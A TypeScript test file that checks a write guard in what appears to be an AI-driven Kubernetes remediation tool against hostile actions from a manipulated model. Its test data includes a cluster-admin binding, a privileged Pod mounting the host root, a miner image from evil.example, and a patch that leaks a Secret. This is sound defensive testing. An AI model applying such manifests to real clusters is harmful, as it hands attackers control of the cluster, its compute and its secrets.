import { expect } from 'chai';
import request from 'supertest';
import { expectHeld, guardStandIns } from '../support/guard-stand-ins.js';
import { analysisAnswer, scriptedEnv } from '../support/remediation-fixtures.js';
import { auth, buildTestApp } from '../support/test-app.js';

type Any = any;
const common = { description: 'the fix', risk: 'low', rationale: 'a log line said so' };
const pod = (spec: Record<string, unknown> = {}) => ({ containers: [{ name: 'app', image: 'ghcr.io/acme/web:1.0' }], ...spec });
const rollout = (spec: Record<string, unknown> = {}) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Rollout',
  metadata: { name: 'web', namespace: 'shop', resourceVersion: '7' },
  spec: { replicas: 2, template: { metadata: { labels: { app: 'web' } }, spec: pod(spec) } },
});
const ksvc = { apiVersion: 'serving.knative.dev/v1', kind: 'Service', metadata: { name: 'web', namespace: 'shop' }, spec: { template: { spec: pod() } } };
const node = {
  apiVersion: 'v1',
  kind: 'Node',
  metadata: { name: 'cp-1' },
  spec: { taints: [{ key: 'node-role.kubernetes.io/control-plane', effect: 'NoSchedule' }] },
};
const svc = {
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name: 'web', namespace: 'shop' },
  spec: { type: 'ClusterIP', ports: [{ port: 80 }], selector: { app: 'web' } },
};
const netpol = {
  apiVersion: 'networking.k8s.io/v1',
  kind: 'NetworkPolicy',
  metadata: { name: 'deny', namespace: 'shop' },
  spec: { podSelector: {}, policyTypes: ['Ingress'] },
};
const cm = {
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'cfg', namespace: 'shop', labels: { app: 'web' }, finalizers: ['example.com/keep'] },
  data: { a: '1' },
};
const SECRET_VALUE = 'aHVudGVyMi1jYW5hcnk='; // base64 of hunter2-canary
const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db', namespace: 'shop' }, type: 'Opaque', data: { password: SECRET_VALUE } };
const ref = (o: { apiVersion: string; kind: string; metadata: { name: string; namespace?: string } }, namespace = o.metadata.namespace) => ({
  apiVersion: o.apiVersion,
  kind: o.kind,
  name: o.metadata.name,
  ...(namespace ? { namespace } : {}),
});

interface Attack {
  name: string;
  objects?: object[];
  actions: object[];
  env?: Record<string, string>;
  /** Default medium: what the issue's attacks got past. */
  maxRiskLevel?: 'low' | 'medium' | 'high';
  /** What the answer must say about action 1: a refusal (dryRun) or svc's risk reasons. */
  refused?: { reason: string; message: RegExp; afterDryRun?: true };
  high?: RegExp;
}

const ATTACKS: Attack[] = [
  {
    name: 'a Node given namespace shop, its control-plane taint removed',
    objects: [node],
    actions: [{ type: 'patch', target: ref(node, 'shop'), patch: { spec: { taints: null } }, ...common }],
    refused: { reason: 'InvalidTarget', message: /Node is cluster-scoped \(discovery\), so namespace shop does not limit it/ },
  },
  {
    name: 'the same Node patch without a namespace',
    objects: [node],
    actions: [{ type: 'patch', target: ref(node), patch: { spec: { taints: null } }, ...common }],
    high: /Node is cluster-scoped/,
    maxRiskLevel: 'high',
  },
  {
    name: 'a PriorityClass with globalDefault',
    actions: [
      {
        type: 'apply',
        manifest: { apiVersion: 'scheduling.k8s.io/v1', kind: 'PriorityClass', metadata: { name: 'top' }, value: 1000000000, globalDefault: true },
        ...common,
      },
    ],
    high: /PriorityClass is cluster-scoped/,
    maxRiskLevel: 'high',
  },
  {
    name: 'deleting a Kyverno ClusterPolicy',
    objects: [{ apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', metadata: { name: 'require-limits' }, spec: { rules: [] } }],
    actions: [{ type: 'delete', target: { apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', name: 'require-limits' }, ...common }],
    high: /a Kyverno policy.*deletes a ClusterPolicy|deletes a ClusterPolicy/,
    maxRiskLevel: 'high',
  },
  {
    name: 'a ClusterRoleBinding carrying metadata.namespace shop, with SVC_WRITE_NAMESPACES=shop',
    env: { SVC_WRITE_NAMESPACES: 'shop' },
    actions: [
      {
        type: 'apply',
        manifest: {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'pwn', namespace: 'shop' },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
          subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'shop' }],
        },
        ...common,
      },
    ],
    refused: { reason: 'InvalidTarget', message: /ClusterRoleBinding is cluster-scoped/ },
  },
  {
    name: 'an Argo Rollout made privileged with hostPID and a miner image',
    objects: [rollout()],
    actions: [
      {
        type: 'patch',
        target: ref(rollout()),
        patch: {
          spec: {
            template: { spec: { hostPID: true, containers: [{ name: 'app', image: 'evil.example/miner:latest', securityContext: { privileged: true } }] } },
          },
        },
        ...common,
      },
    ],
    high: /hostPID: true.*container app securityContext\.privileged: true.*registry evil\.example/,
  },
  {
    name: 'the same Rollout image with SVC_IMAGE_REGISTRIES=ghcr.io',
    objects: [rollout()],
    env: { SVC_IMAGE_REGISTRIES: 'ghcr.io' },
    actions: [
      {
        type: 'patch',
        target: ref(rollout()),
        patch: { spec: { template: { spec: { containers: [{ name: 'app', image: 'evil.example/miner:latest' }] } } } },
        ...common,
      },
    ],
    refused: { reason: 'ImageRegistry', message: /evil\.example\/miner:latest is outside SVC_IMAGE_REGISTRIES \(ghcr\.io\)/, afterDryRun: true },
  },
  {
    name: 'a Knative Service with SVC_WRITE_KINDS=Service (the core Service only)',
    objects: [ksvc],
    env: { SVC_WRITE_KINDS: 'Service,apps/Deployment' },
    actions: [{ type: 'patch', target: ref(ksvc), patch: { spec: { template: { spec: { hostNetwork: true } } } }, ...common }],
    refused: { reason: 'OutsideWriteScope', message: /serving\.knative\.dev\/Service shop\/web is outside SVC_WRITE_KINDS/ },
  },
  {
    name: 'a Knative Service on the host network',
    objects: [ksvc],
    actions: [{ type: 'patch', target: ref(ksvc), patch: { spec: { template: { spec: { hostNetwork: true } } } }, ...common }],
    high: /hostNetwork: true/,
  },
  {
    name: 'a LoadBalancer Service with externalIPs',
    objects: [svc],
    actions: [{ type: 'patch', target: ref(svc), patch: { spec: { type: 'LoadBalancer', externalIPs: ['203.0.113.7'] } }, ...common }],
    high: /^(?=.*type LoadBalancer)(?=.*opens the Service \(203\.0\.113\.7\))/,
  },
  {
    name: 'an ExternalName Service pointing outside',
    objects: [svc],
    actions: [
      { type: 'patch', target: ref(svc), patch: { spec: { type: 'ExternalName', externalName: 'evil.example', selector: null, ports: null } }, ...common },
    ],
    high: /evil\.example \(ExternalName\)/,
  },
  {
    name: "a JSON Patch replacing a NetworkPolicy's whole spec",
    objects: [netpol],
    actions: [
      { type: 'patch', target: ref(netpol), patch: [{ op: 'replace', path: '/spec', value: { podSelector: { matchLabels: { none: 'x' } } } }], ...common },
    ],
    high: /NetworkPolicy is a sensitive kind: it changes what may talk to what.*removes fields the action does not name: spec\.policyTypes/,
  },
  {
    name: 'a replace of /metadata dropping labels and finalizers',
    objects: [cm],
    actions: [{ type: 'patch', target: ref(cm), patch: [{ op: 'replace', path: '/metadata', value: { name: 'cfg', namespace: 'shop' } }], ...common }],
    high: /metadata\.finalizers.*removes fields the action does not name: metadata\.finalizers, metadata\.labels/,
  },
  {
    name: 'a patch of only the last-applied annotation',
    objects: [cm],
    actions: [
      {
        type: 'patch',
        target: ref(cm),
        patch: { metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{"data":{"a":"evil"}}' } } },
        ...common,
      },
    ],
    high: /last-applied-configuration annotation/,
  },
  {
    name: 'a privileged Pod on control-plane nodes, with maxRiskLevel medium',
    maxRiskLevel: 'medium',
    actions: [
      {
        type: 'apply',
        manifest: {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: 'debug', namespace: 'shop' },
          spec: {
            containers: [{ name: 'sh', image: 'busybox:1.36', securityContext: { privileged: true, runAsUser: 0 } }],
            volumes: [{ name: 'root', hostPath: { path: '/' } }],
            tolerations: [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists', effect: 'NoSchedule' }],
          },
        },
        ...common,
      },
    ],
    high: /\(Privileged Containers\).*\(HostPath Volumes\)/,
  },
  {
    name: "a JSON Patch copying a Secret's password into an annotation",
    objects: [secret],
    actions: [{ type: 'patch', target: ref(secret), patch: [{ op: 'copy', from: '/data/password', path: '/metadata/annotations/leak' }], ...common }],
    refused: { reason: 'UnsafePatch', message: /copy from \/data\/password to \/metadata\/annotations\/leak: svc refuses copy and move/ },
  },
];

/** Each attack of issue 30 from a scripted, manipulated model, in automatic mode, against the stand-in: nothing is written, and the answer says why. */
describe('the write guard over HTTP: hostile proposals against the Kubernetes stand-in', () => {
  const { s, persisted } = guardStandIns(['shop']);

  for (const attack of ATTACKS)
    it(attack.name, async () => {
      for (const o of attack.objects ?? []) s.kube.put(JSON.parse(JSON.stringify(o)));
      s.chat.script({ content: 'found it' }, { content: analysisAnswer({ confidence: 0.99, actions: attack.actions }) });
      const { app } = buildTestApp({ ...scriptedEnv(s.chat, s.kube), ...(attack.env ?? {}) });
      const issue = 'web in namespace shop on node cp-1 is broken';
      const res = await request(app)
        .post('/api/v1/tools/remediate')
        .set(auth)
        .send({ issue, mode: 'automatic', maxRiskLevel: attack.maxRiskLevel ?? 'medium', confidenceThreshold: 0.1 })
        .expect(200);
      const view: Any = res.body.data.result;
      expectHeld(view, attack);
      // refused before any dry run (unless judged on the dry-run object): the API server saw no write request, not even a dry run
      if (attack.refused && !attack.refused.afterDryRun) expect(s.kube.requests.filter((r) => r.method !== 'GET')).to.deep.equal([]);
      expect(persisted()).to.deep.equal([]);
      expect(JSON.stringify(res.body)).to.not.contain(SECRET_VALUE);
      const session = await request(app).get(`/api/v1/sessions/${view.sessionId}`).set(auth).expect(200);
      expect(JSON.stringify(session.body)).to.not.contain(SECRET_VALUE);
      expect(JSON.stringify(s.chat.requests)).to.not.contain(SECRET_VALUE);
    });

  it('a malformed action (kind "configmap") is refused on its own; the investigation and the other action stand', async () => {
    s.kube.put(JSON.parse(JSON.stringify(cm)));
    const bad = { type: 'patch', target: { apiVersion: 'v1', kind: 'configmap', name: 'cfg', namespace: 'shop' }, patch: { data: { a: '2' } }, ...common };
    const good = { type: 'patch', target: ref(cm), patch: { data: { a: '2' } }, ...common };
    s.chat.script({ content: 'found it' }, { content: analysisAnswer({ actions: [bad, good] }) });
    const { app } = buildTestApp(scriptedEnv(s.chat, s.kube));
    const view: Any = (await request(app).post('/api/v1/tools/remediate').set(auth).send({ issue: 'cfg in shop is wrong' }).expect(200)).body.data.result;
    expect(view.rootCause).to.be.a('string');
    expect(view.actions[0].dryRun).to.deep.include({ accepted: false, reason: 'Invalid' });
    expect(view.actions[0].dryRun.message).to.contain('configmap');
    expect(view.actions[1].dryRun).to.deep.equal({ accepted: true });
    expect(persisted()).to.deep.equal([]);
  });

  it('a create is pinned: an object that appeared between preview and approval is not overwritten', async () => {
    const fresh = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'fresh', namespace: 'shop' }, data: { a: 'svc' } };
    s.chat.script({ content: 'found it' }, { content: analysisAnswer({ actions: [{ type: 'apply', manifest: fresh, ...common }] }) });
    const { app } = buildTestApp(scriptedEnv(s.chat, s.kube));
    const view: Any = (await request(app).post('/api/v1/tools/remediate').set(auth).send({ issue: 'fresh in shop is missing' }).expect(200)).body.data.result;
    expect(view.actions[0]).to.deep.include({ effect: 'create', dryRun: { accepted: true } });
    s.kube.put({ ...fresh, data: { a: 'someone else' } });
    const done: Any = (await request(app).post('/api/v1/tools/remediate').set(auth).send({ sessionId: view.sessionId, executeChoice: 1 }).expect(200)).body.data
      .result;
    expect(done.status).to.equal('not_executed');
    expect(done.execution.outcome.report.refused).to.deep.include({ reason: 'AlreadyExists' });
    expect(persisted()).to.deep.equal([]);
    expect(s.kube.objects.get('/api/v1/namespaces/shop/configmaps/fresh')!.data).to.deep.equal({ a: 'someone else' });
  });
});
